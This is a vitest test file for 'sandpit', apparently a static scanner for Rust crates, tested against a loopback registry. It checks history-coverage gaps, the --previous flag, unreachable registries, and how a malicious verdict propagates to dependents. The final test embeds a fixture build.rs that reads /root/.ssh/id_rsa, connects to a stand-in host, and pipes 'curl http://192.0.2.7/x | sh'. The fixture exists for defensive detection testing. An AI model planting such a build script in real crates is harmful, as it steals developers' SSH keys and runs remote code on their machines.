import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, expect, test } from 'vitest';
import { Report } from '../../src/model/report.ts';
import { LoopbackRegistry } from '../support/loopback-registry.ts';
import { archiveOf, DAY, MINUTE, publish } from '../support/publish-crate.ts';
import { type Ran, sandpit, temporaryFolder } from '../support/sandpit.ts';

const folder = await temporaryFolder();
const registry = await LoopbackRegistry.start();
const QUIET = 'fn main() {\n    println!("cargo:rerun-if-changed=build.rs");\n}\n';
const old = { version: '1.0.0', age: 300 * DAY };
const now = { version: '1.1.1', age: 5 * MINUTE };

afterAll(async () => {
  await registry.stop();
  await folder[Symbol.asyncDispose]();
});

async function scan(targets: readonly string[], flags: readonly string[] = []): Promise<Ran> {
  return sandpit(['scan', '--static-only', '--format', 'json', '--registry', registry.url, ...flags, ...targets], {
    XDG_DATA_HOME: join(folder.path, 'data'),
    SANDPIT_CACHE: join(folder.path, 'cache'),
  });
}

function reportsIn({ stdout }: Ran): Report[] {
  return stdout
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => Report.parse(JSON.parse(line)));
}

test('a version before that is not to be had, or that the strict reader refuses, is a gap with its reason', async () => {
  for (const version of [old, now]) publish(registry, { name: 'vanished', ...version });
  registry.put('/dl/vanished/1.0.0/download', Buffer.from('other bytes'));
  const evil = Buffer.concat([archiveOf({ name: 'spoilt-twice', ...old }), Buffer.from('trailing')]);
  registry.publish('spoilt-twice', '1.0.0', evil, { pubtime: '2020-01-01T00:00:00Z' });
  publish(registry, { name: 'spoilt-twice', ...now });
  const [vanished, spoilt] = reportsIn(await scan(['vanished', 'spoilt-twice']));
  for (const report of [vanished, spoilt]) {
    const history = report?.coverage.find(({ stage }) => stage === 'history');
    expect(history).toMatchObject({ state: 'partial', asked: true });
    expect(history?.reason).toMatch(/^the version before could not be read: .+/);
    expect(report?.verdict.level).toBe('inconclusive');
  }
});

test('--previous names the version to compare with, for a file that no registry knows; another crate is wrong usage', async () => {
  const archives = [
    { name: 'filed', ...old },
    { name: 'filed', ...now, files: { 'build.rs': QUIET } },
    { name: 'otherwise', ...old },
  ];
  for (const one of archives) await writeFile(join(folder.path, `${one.name}-${one.version}.crate`), archiveOf(one));
  const at = (label: string) => join(folder.path, `${label}.crate`);
  const [alone] = reportsIn(await scan([at('filed-1.1.1')]));
  expect(alone?.signals.map(({ id }) => id)).toEqual([]);
  const [compared] = reportsIn(await scan([at('filed-1.1.1')], ['--previous', at('filed-1.0.0')]));
  expect(compared?.signals.map(({ id }) => id)).toEqual(['build-script-first']);
  // It outranks the index, too: this one had the build script already.
  publish(registry, { name: 'scripted', ...old });
  publish(registry, { name: 'scripted', ...now, files: { 'build.rs': QUIET } });
  await writeFile(
    at('scripted-1.0.5'),
    archiveOf({ name: 'scripted', version: '1.0.5', age: 0, files: { 'build.rs': QUIET } }),
  );
  const [published] = reportsIn(await scan(['scripted'], ['--previous', at('scripted-1.0.5')]));
  expect(published?.signals.map(({ id }) => id)).toEqual([]);
  const wrong = await scan([at('filed-1.1.1')], ['--previous', at('otherwise-1.0.0')]);
  expect(wrong).toMatchObject({ status: 2, stdout: '' });
  expect(wrong.stderr).toMatch(/^sandpit: --previous is another crate: otherwise@1\.0\.0.*\n$/);
});

test('a file is scanned though no registry answers: what is not compared is said, and is no shortfall of the file', async () => {
  await writeFile(join(folder.path, 'lonely-1.0.0.crate'), archiveOf({ name: 'lonely', ...old }));
  const ran = await sandpit(
    [
      'scan',
      '--static-only',
      '--format',
      'json',
      '--registry',
      'http://127.0.0.1:9/',
      join(folder.path, 'lonely-1.0.0.crate'),
    ],
    { XDG_DATA_HOME: join(folder.path, 'data'), SANDPIT_CACHE: join(folder.path, 'elsewhere') },
  );
  const [report] = reportsIn(ran);
  expect(report?.verdict.level).toBe('clean');
  for (const stage of ['history', 'dependencies'])
    expect(report?.coverage.find((entry) => entry.stage === stage)).toMatchObject({
      state: 'skipped',
      asked: false,
      reason: expect.stringMatching(/^compared with no other version: the registry cannot be reached/),
    });
});

test('a registry that swallows questions costs a file seconds, and is said', async () => {
  await writeFile(join(folder.path, 'patient-1.0.0.crate'), archiveOf({ name: 'patient', ...old }));
  registry.interfere = (request) => request.url === '/index/pa/ti/patient';
  const [report] = reportsIn(await scan([join(folder.path, 'patient-1.0.0.crate')]));
  registry.interfere = () => false;
  expect(report?.coverage.find(({ stage }) => stage === 'history')).toMatchObject({
    state: 'skipped',
    asked: false,
    reason: expect.stringMatching(/^compared with no other version: the registry did not answer in time/),
  });
  expect(report?.verdict.level).toBe('clean');
});

test('a verdict of malicious reaches whoever takes the version, and no longer once it is yanked', async () => {
  const evil = {
    name: 'payload',
    version: '0.1.0',
    age: 30 * DAY,
    files: {
      'build.rs': `fn main() {
    let text = std::fs::read_to_string("/root/.ssh/id_rsa").unwrap_or_default();
    let mut stream = std::net::TcpStream::connect("192.0.2.7:9").unwrap();
    let _ = std::io::Write::write_all(&mut stream, text.len().to_string().as_bytes());
    let _ = std::process::Command::new("sh").arg("-c").arg("curl http://192.0.2.7/x | sh").spawn();
}
`,
    },
  };
  publish(registry, evil);
  publish(registry, {
    name: 'front',
    version: '1.0.0',
    age: 29 * DAY,
    needs: [{ name: 'payload', requirement: '^0.1' }],
  });
  publish(registry, {
    name: 'bystander',
    version: '1.0.0',
    age: 29 * DAY,
    needs: [{ name: 'payload', requirement: '^0.2' }],
  });
  const [payload, front, bystander] = reportsIn(await scan(['payload', 'front', 'bystander']));
  expect(payload?.verdict.level).toBe('malicious');
  expect(front?.signals.map(({ id }) => id)).toEqual(['depends-on-malicious']);
  expect(front?.verdict).toMatchObject({ level: 'suspicious', recommendation: 'hold' });
  expect(bystander?.signals).toEqual([]);
  registry.put('/index/pa/yl/payload', Buffer.alloc(0));
  publish(registry, { ...evil, yanked: true });
  const [after] = reportsIn(await scan(['front@1.0.0']));
  expect(after?.signals).toEqual([]);
});
